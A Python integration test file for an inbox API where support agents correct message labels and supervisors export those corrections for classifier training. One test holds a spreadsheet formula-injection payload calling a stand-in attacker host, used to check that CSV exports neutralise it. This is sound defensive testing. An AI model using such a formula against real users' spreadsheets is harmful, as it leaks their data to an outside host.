"""Agents correct a message's labels through the inbox API (real MongoDB protocol server and
Kafka): stored per brand and message with who and when, merged, audited, refused with a
reason, listed and exported to supervisors of the brand only, in the format
``train-sentiment --data`` reads."""

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from socialcare_classifier.intents_cli import read_intent_rows
from socialcare_classifier.sentiment_cli import read_rows
from socialcare_router.adapters.store import Store
from socialcare_router.domain.permissions import Actor
from socialcare_router.settings import InboxUser
from tests.integration.router_helpers import (  # noqa: F401
    BRAND_USERS,
    inbox,
    inbox_api,
    seed,
    store,
)

pytestmark = pytest.mark.integration

USERS = {
    **BRAND_USERS,
    "k-gagent": InboxUser(id="agent-g", name="Lee Roe", role="agent", brands=["globex"]),
}
OWNER, OTHER, SUP, GLOBEX, GAGENT = ({"X-API-Key": f"k-{k}"} for k in
                                     ("owner", "other", "sup", "globex", "gagent"))
M0, M1 = "x:acme:m0", "x:acme:m1"


@pytest.fixture
async def api(store: Store, kafka_bootstrap: str) -> AsyncIterator[httpx.AsyncClient]:  # noqa: F811
    async with inbox_api(store, kafka_bootstrap, USERS) as client:
        yield client


def labels(message_id: str) -> str:
    return f"/v1/messages/{message_id}/labels"


async def test_an_agent_corrects_labels_and_a_later_correction_merges(
        api: httpx.AsyncClient, store: Store) -> None:  # noqa: F811
    [cid] = await seed(store, 1)
    # Held by one agent, corrected by another of the brand: labels are nobody's work.
    await inbox(store).claim(Actor("owner", "agent", frozenset({"acme"})), cid)
    first = await api.patch(labels(M0), json={"sentiment": "neutral"}, headers=OTHER)
    assert first.status_code == 200, first.text
    body = first.json()
    assert body["text"] == "my order is late" and body["conversation_id"] == cid
    assert body["labels"] == {"sentiment": "neutral"}
    assert body["original"]["sentiment"] == "negative"
    assert body["corrected_by"] == "other"

    second = await api.patch(labels(M0), json={"intents": ["order_status"], "language": "EN"},
                             headers=OWNER)
    assert second.status_code == 200, second.text
    body = second.json()
    assert body["labels"] == {"sentiment": "neutral", "intents": ["order_status"],
                              "language": "en"}
    assert body["effective"]["sentiment"] == "neutral" and body["changes"] == 2
    assert body["corrected_by"] == "owner"
    assert await store.db.corrections.count_documents({}) == 1

    shown = (await api.get(f"/v1/conversations/{cid}/corrections", headers=OWNER)).json()
    assert [c["message_id"] for c in shown] == [M0]
    audit = await store.audit.read(None, cid, None, 10)
    corrected = [a for a in audit if a["action"] == "correct"]
    assert [a["actor_id"] for a in corrected] == ["owner", "other"]
    assert corrected[0]["target"] == M0 and "text" not in json.dumps(corrected[0]["details"])


@pytest.mark.parametrize(("body", "who", "status", "reason"), [
    ({"sentiment": "furious"}, OWNER, 422, "sentiment must be one of"),
    ({"intents": ["free_money"]}, OWNER, 422, "unknown intent"),
    ({"language": "english"}, OWNER, 422, "should match pattern"),
    ({"category": "x" * 65}, OWNER, 422, ""),
    ({}, OWNER, 422, "at least one"),
    ({"sentiment": "positive", "stars": 5}, OWNER, 422, ""),
    # Another brand's message is "no message", as if it did not exist: not "no conversation
    # <its id>", which would say that it exists and where.
    ({"sentiment": "positive"}, GAGENT, 404, f"no message {M0}"),
    ({"sentiment": "positive"}, GLOBEX, 404, f"no message {M0}"),
    ({"sentiment": "positive"}, {}, 401, ""),
])
async def test_a_refused_correction_says_why_and_stores_nothing(
        api: httpx.AsyncClient, store: Store, body: dict, who: dict, status: int,  # noqa: F811
        reason: str) -> None:
    await seed(store, 1)
    response = await api.patch(labels(M0), json=body, headers=who)
    assert response.status_code == status, response.text
    assert reason in json.dumps(response.json())
    assert await store.db.corrections.count_documents({}) == 0


async def test_an_unknown_message_is_404(api: httpx.AsyncClient, store: Store) -> None:  # noqa: F811
    response = await api.patch(labels("x:acme:nope"), json={"sentiment": "positive"},
                               headers=OWNER)
    assert response.status_code == 404 and "no message" in response.json()["detail"]


async def test_supervisors_list_and_export_their_brands_corrections(
        api: httpx.AsyncClient, store: Store, tmp_path: Path) -> None:  # noqa: F811
    await seed(store, 2)
    for message_id, label in ((M0, "neutral"), (M1, "positive")):
        response = await api.patch(labels(message_id), json={"sentiment": label},
                                   headers=OWNER)
        assert response.status_code == 200
    await api.patch(labels(M1), json={"intents": ["praise"]}, headers=OTHER)

    listed = (await api.get("/v1/corrections", headers=SUP)).json()
    assert [c["message_id"] for c in listed] == [M1, M0]  # newest first
    assert (await api.get("/v1/corrections?limit=1", headers=SUP)).json()[0]["message_id"] == M1
    assert (await api.get("/v1/corrections", headers=GLOBEX)).json() == []
    assert (await api.get("/v1/corrections?brand=acme", headers=GLOBEX)).status_code == 403
    assert (await api.get("/v1/corrections", headers=OWNER)).status_code == 403
    assert (await api.get("/v1/corrections/export", headers=OWNER)).status_code == 403

    exported = await api.get("/v1/corrections/export?format=csv", headers=SUP)
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["label"], r["brand"], r["corrected_by"]) for r in rows] == [
        ("neutral", "acme", "owner"), ("positive", "acme", "other")]
    assert rows[1]["intents"] == "praise" and rows[0]["text"] == "my order is late"

    for fmt in ("csv", "jsonl"):
        path = tmp_path / f"corrections.{fmt}"
        path.write_text((await api.get(f"/v1/corrections/export?format={fmt}",
                                       headers=SUP)).text, encoding="utf-8")
        assert read_rows(path, "text", "label") == [("my order is late", "neutral"),
                                                    ("my order is late", "positive")]
    nothing = await api.get("/v1/corrections/export?format=jsonl", headers=GLOBEX)
    assert nothing.status_code == 200 and nothing.text == ""


async def test_a_formula_a_customer_wrote_is_exported_quoted_and_trained_on_as_written(
        api: httpx.AsyncClient, store: Store, tmp_path: Path) -> None:  # noqa: F811
    await seed(store, 2)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    await store.db.messages.update_one({"_id": M0}, {"$set": {"text": formula}})
    await store.db.messages.update_one({"_id": M1}, {"$set": {"text": "'-5 stars"}})
    for message_id in (M0, M1):
        response = await api.patch(labels(message_id), json={
            "sentiment": "negative", "intents": ["refund_return"]}, headers=OWNER)
        assert response.status_code == 200, response.text

    exported = await api.get("/v1/corrections/export?format=csv", headers=SUP)
    texts = [r["text"] for r in csv.DictReader(io.StringIO(exported.text))]
    # What a spreadsheet shows as text, never runs; a quote before '-' is kept by one more.
    assert sorted(texts) == ["''-5 stars", "'" + formula]

    path = tmp_path / "corrections.csv"
    path.write_text(exported.text, encoding="utf-8")
    assert sorted(read_rows(path, "text", "label")) == [("'-5 stars", "negative"),
                                                        (formula, "negative")]
    assert sorted(read_intent_rows(path, "acme")) == [("'-5 stars", ("refund_return",)),
                                                      (formula, ("refund_return",))]


async def test_pages_of_corrections_made_at_one_instant_list_each_once(
        api: httpx.AsyncClient, store: Store) -> None:  # noqa: F811
    await seed(store, 7)
    for i in range(7):
        response = await api.patch(labels(f"x:acme:m{i}"), json={"sentiment": "neutral"},
                                   headers=OWNER)
        assert response.status_code == 200, response.text
    # One instant for five of them (a batch of corrections, or a coarse clock), so pages of
    # two end amid them.
    same = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
    await store.db.corrections.update_many(
        {"message_id": {"$in": [f"x:acme:m{i}" for i in range(5)]}},
        {"$set": {"corrected_at": same}})

    listed: list[str] = []
    params: dict[str, str | int] = {"limit": 2}
    while page := (await api.get("/v1/corrections", params=params, headers=SUP)).json():
        listed += [c["message_id"] for c in page]
        params = {"limit": 2, "before": page[-1]["corrected_at"], "before_id": page[-1]["id"]}
    assert sorted(listed) == [f"x:acme:m{i}" for i in range(7)]
    assert len(listed) == 7

    # The old page link (before alone) still means "strictly older".
    older = await api.get("/v1/corrections", headers=SUP,
                          params={"before": "2026-05-01T12:00:00Z"})
    assert older.json() == []
    refused = await api.get("/v1/corrections", headers=SUP, params={"before_id": "x"})
    assert refused.status_code == 422 and "before_id needs before" in refused.text
